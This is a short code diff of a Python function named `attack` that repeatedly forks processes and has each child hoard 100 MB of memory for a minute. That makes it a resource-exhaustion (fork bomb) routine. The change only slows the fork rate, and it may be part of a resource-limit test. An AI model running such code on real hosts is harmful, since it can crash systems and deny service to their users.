@@ -6,7 +6,7 @@ import time
 
 def attack():
     while os.fork():
-        time.sleep(0.01)
+        time.sleep(0.1)
     hoard = bytearray(b"x") * (100 << 20)
     time.sleep(60)
     return len(hoard)
